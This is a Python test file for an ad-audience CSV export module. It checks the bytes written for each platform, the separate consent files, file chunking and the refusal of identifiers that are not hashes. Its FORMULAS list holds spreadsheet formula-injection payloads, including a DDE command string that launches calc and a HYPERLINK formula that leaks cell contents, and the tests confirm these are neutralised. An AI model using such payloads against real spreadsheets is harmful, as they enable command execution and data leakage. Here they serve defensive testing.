"""What the files of an export hold, to the byte, and how texts come back."""

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from export_toy import Person, ToyRelease, hashed, lines_of
from segmentation.export import contents
from segmentation.export.cells import line, neutralised, restored
from segmentation.export.csv_files import read_export
from segmentation.export.errors import UnknownIdentifierError
from segmentation.export.export import Request, export
from segmentation.export.platform_files import PLATFORM_FILES

# Of `ann`, `ben` and `cat`, by sha256sum of coreutils.
ANN = "49915e0d7d4b402e3017d010bc1c0e83cac6c797d6c16e66340fe3268693a6a1"
BEN = "6700869c8ff7480e34a70a708b028700dbaa3a033b5652b903afe89f49a31456"
CAT = "77af778b51abd4a3c51c5ddd97204a9c3ae614ebccb75a606c3b6865aed6744e"
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    "\rtext",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u3000@a",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20a",
    "\ufe66 1",
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.org?a="&A1,"see")',
    "=1,2",
    '@a"b',
    "-a\nb",
    "\0=1",
    "'=1",
    "''=1",
    "'  +1",
)
HARMLESS = (
    "Ann",
    "O'Neil",
    "'t Hooft",
    "a=b",
    "1-2",
    "",
    "'",
    "é+",
    '"=1"',
    "a@b",
    ",=1",
)


def exported(
    folder: Path, platform: str, people: list[Person], kind: str = "include"
) -> Path:
    """Export an audience of these people; return its folder."""
    toy = ToyRelease(folder)
    toy.audience("S01", [platform], kind=kind)
    toy.night({("S01", platform): people})
    toy.publish()
    [outcome] = export(
        toy.profile, Request("S01", platform, None, toy.exports)
    ).outcomes
    assert outcome.folder is not None
    assert outcome.folder.name == f"S01_{platform}_full_run-1"
    return outcome.folder


PEOPLE = [
    Person(
        "ann",
        fields={
            "first_name": hashed("ann"),
            "last_name": "-Lee, Jr",
            "city": "c1ty",
            "region": "ny",
            "postal_code": "00123",
            "country": "US",
        },
        value=Decimal("12.50"),
    ),
    Person("ben", "phone", value=Decimal("-3.00")),
    Person("cat", fields={"country": "DE"}),
]


@pytest.mark.parametrize(
    ("platform", "kind", "people", "expected"),
    [
        (
            "google_ads",
            "include",
            PEOPLE,
            (
                "Email,Phone,First Name,Last Name,Country,Zip\n"
                f'{ANN},,{ANN},"\'-Lee, Jr",US,00123\n'
                f",{BEN},,,,\n"
                f"{CAT},,,,DE,\n"
            ),
        ),
        (
            "meta",
            "seed",
            PEOPLE,
            (
                "EMAIL,PHONE,FN,LN,CT,ST,ZIP,COUNTRY,LOOKALIKE_VALUE\n"
                f'{ANN},,{ANN},"\'-Lee, Jr",c1ty,ny,00123,US,12.50\n'
                f",{BEN},,,,,,,0.00\n"
                f"{CAT},,,,,,,DE,\n"
            ),
        ),
        (
            "meta",
            "include",
            [PEOPLE[2]],
            f"EMAIL,PHONE,FN,LN,CT,ST,ZIP,COUNTRY\n{CAT},,,,,,,DE\n",
        ),
        ("linkedin", "include", [PEOPLE[0], PEOPLE[2]], f"email\n{ANN}\n{CAT}\n"),
        ("x", "include", [PEOPLE[0], PEOPLE[2]], f"{ANN}\n{CAT}\n"),
        (
            "tiktok",
            "include",
            PEOPLE,
            f"Email_SHA256,Phone_SHA256\n{ANN},\n,{BEN}\n{CAT},\n",
        ),
    ],
)
def test_a_platform_gets_these_bytes(
    tmp_path: Path, platform: str, kind: str, people: list[Person], expected: str
) -> None:
    folder = exported(tmp_path, platform, people, kind)
    lines = expected.splitlines(keepends=True)
    has_header = platform != "x"
    ordered = [*lines[:has_header], *sorted(lines[has_header:], key=by_hash)]
    assert (folder / "members-001.csv").read_bytes() == "".join(ordered).encode()
    consents = [(p.hash, f"ad_user_data=shop/{p.name}\n") for p in people]
    assert (folder / "members-001.consents.csv").read_text() == (
        "member_hash,consent_references\n"
        + "".join(f"{each},{references}" for each, references in sorted(consents))
    )


def by_hash(text: str) -> str:
    """Return the hash of a line, whichever column it is in."""
    return next(cell for cell in text.split(",") if len(cell.strip()) == 64)


def test_every_platform_of_the_seed_has_a_file() -> None:
    seed = Path(__file__).parents[2] / "seeds" / "platform_limits.csv"
    assert set(PLATFORM_FILES) == {row[0] for row in lines_of(seed)[1:]}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text_and_comes_back(text: str) -> None:
    cell = neutralised(text)
    assert cell == "'" + text
    assert restored(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutralised(text) == text
    assert restored(text) == text


@given(
    st.lists(
        st.lists(
            st.text(
                st.sampled_from("'=+-@\uff1d \t\r\n\0,\"a\u200bé")
                | st.characters(exclude_categories=["Cs"])
            ),
            min_size=2,
            max_size=2,
        ),
        max_size=6,
    )
)
def test_any_text_comes_back_through_a_csv_reader(rows: list[list[str]]) -> None:
    written = "".join(line([neutralised(text) for text in row]) for row in rows)
    read = list(csv.reader(io.StringIO(written, newline=""), strict=True))
    assert [[restored(cell) for cell in row] for row in read] == rows
    first = {cell[:1] for row in read for cell in row}
    assert not first & set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def test_texts_of_members_come_back_and_hashes_are_never_altered(
    tmp_path: Path,
) -> None:
    people = [
        Person(str(number), fields={"first_name": text, "last_name": text[::-1]})
        for number, text in enumerate((*FORMULAS, *HARMLESS))
    ]
    folder = exported(tmp_path, "google_ads", people)
    members = folder / "members-001.csv"
    found = {row[0]: (row[2], row[3]) for row in read_export(members)[1:]}
    assert found == {
        p.hash: (p.fields["first_name"], p.fields["last_name"]) for p in people
    }
    raw = lines_of(members)[1:]
    assert [row[0] for row in raw] == sorted(p.hash for p in people)
    consents = read_export(folder / "members-001.consents.csv")[1:]
    assert dict(consents) == {p.hash: p.consents for p in people}


@pytest.mark.parametrize("member_hash", ["ann@x.org", "=1", "A" * 64, "a" * 63, ""])
def test_what_is_no_hash_is_neither_sent_nor_printed(
    tmp_path: Path, member_hash: str
) -> None:
    people = [Person("ann"), Person("zoe", member_hash=member_hash or " ")]
    with pytest.raises(UnknownIdentifierError) as refused:
        exported(tmp_path, "meta", people)
    assert not list((tmp_path / "exports").iterdir())
    assert f"of {len(member_hash or ' ')} characters that is no hash" in str(
        refused.value
    )
    assert "ann@x.org" not in str(refused.value)


def test_an_identifier_without_a_column_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UnknownIdentifierError, match="the type phone, expected email"):
        exported(tmp_path, "x", [Person("ann", "phone")])


def test_files_end_where_the_platform_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = PLATFORM_FILES["tiktok"]
    small = type(file)(**{**vars(file), "maximum_rows": 2})
    monkeypatch.setattr(contents, "PLATFORM_FILES", {"tiktok": small})
    people = [Person(str(number)) for number in range(5)]
    folder = exported(tmp_path, "tiktok", people)
    parts = sorted(folder.glob("members-00?.csv"))
    assert [len(lines_of(part)) - 1 for part in parts] == [2, 2, 1]
    assert {tuple(lines_of(part)[0]) for part in parts} == {
        ("Email_SHA256", "Phone_SHA256")
    }
    hashes = [row[0] for part in parts for row in lines_of(part)[1:]]
    assert hashes == sorted(person.hash for person in people)
    for part in parts:
        consents = lines_of(part.with_suffix(".consents.csv"))
        assert [row[0] for row in consents[1:]] == [
            row[0] for row in lines_of(part)[1:]
        ]
    manifest = json.loads((folder / "manifest.json").read_text())
    assert [file["rows"] for file in manifest["files"]] == [2, 2, 2, 2, 1, 1]


def test_an_empty_audience_is_a_file_with_a_header(tmp_path: Path) -> None:
    folder = exported(tmp_path, "meta", [])
    assert (folder / "members-001.csv").read_text() == (
        "EMAIL,PHONE,FN,LN,CT,ST,ZIP,COUNTRY\n"
    )


def test_tables_of_channels_are_files_with_consents_apart(tmp_path: Path) -> None:
    toy = ToyRelease(tmp_path)
    toy.rows["activation__email"] = [
        ("c2", "h2", "best", "=Now", "a=s/1", 20, "2024-03-31", "2024-04-01 18:00:00"),
        ("c1", "h1", "new", "Hi, you", "a=s/2", None, "2024-03-31", None),
    ]
    toy.rows["activation__crm"] = [
        ("contact/s/1", "contact", "Say\n-this", None, None, "2024-03-31"),
        ("contact/s/2", "contact", "Say", "email", "email: a=s/1", "2024-03-31"),
    ]
    toy.rows["activation__web_personalization"] = [("default", "default", "Hello")]
    toy.publish()
    for name in ("email", "crm", "web"):
        export(toy.profile, Request(name, None, None, toy.exports))
    email, crm, web = (
        toy.exports / f"{name}_run-1" for name in ("email", "crm", "web")
    )
    assert (email / "rows-001.csv").read_text() == (
        "customer_id,identifier_hash,segment_code,subject,send_hour_local,as_of_date,"
        "next_send_at\n"
        'c1,h1,new,"Hi, you",,2024-03-31,\n'
        "c2,h2,best,'=Now,20,2024-03-31,2024-04-01 18:00:00\n"
    )
    assert (email / "rows-001.consents.csv").read_text() == (
        "customer_id,consent_references\nc1,a=s/2\nc2,a=s/1\n"
    )
    assert (crm / "rows-001.csv").read_text() == (
        "crm_key,record_kind,talking_point,may_contact_by,as_of_date\n"
        'contact/s/1,contact,"Say\n-this",,2024-03-31\n'
        "contact/s/2,contact,Say,email,2024-03-31\n"
    )
    assert (crm / "rows-001.consents.csv").read_text() == (
        "crm_key,consent_references\ncontact/s/2,email: a=s/1\n"
    )
    assert {path.name for path in web.iterdir()} == {"rows-001.csv", "manifest.json"}
    assert (web / "rows-001.csv").read_text() == (
        "visitor_key,segment_key,content\ndefault,default,Hello\n"
    )
